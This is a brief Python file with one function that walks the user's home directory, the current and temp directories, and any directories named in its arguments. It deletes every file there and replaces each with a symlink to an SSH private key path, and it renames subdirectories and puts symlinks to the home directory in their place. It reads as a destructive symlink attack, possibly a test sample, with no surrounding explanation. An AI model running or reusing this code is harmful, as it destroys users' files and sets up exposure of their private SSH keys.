import os
import sys


def attempt():
    key = "@HOME@/.ssh/id_rsa"
    folders = {os.getcwd(), os.path.expanduser("~"), os.environ.get("TMPDIR", ".")}
    for word in sys.argv:
        word = word.split("=")[-1]
        if os.path.isfile(word):
            folders.add(os.path.dirname(os.path.abspath(word)))
        elif os.path.isdir(word):
            folders.add(os.path.abspath(word))
    for folder in sorted(folders):
        for place, inner, files in os.walk(folder):
            for name in files:
                try:
                    os.unlink(os.path.join(place, name))
                    os.symlink(key, os.path.join(place, name))
                except OSError:
                    pass
            for name in inner:
                try:
                    os.rename(os.path.join(place, name), os.path.join(place, name + "-moved"))
                    os.symlink("@HOME@", os.path.join(place, name))
                except OSError:
                    pass
            inner[:] = []
    return ""
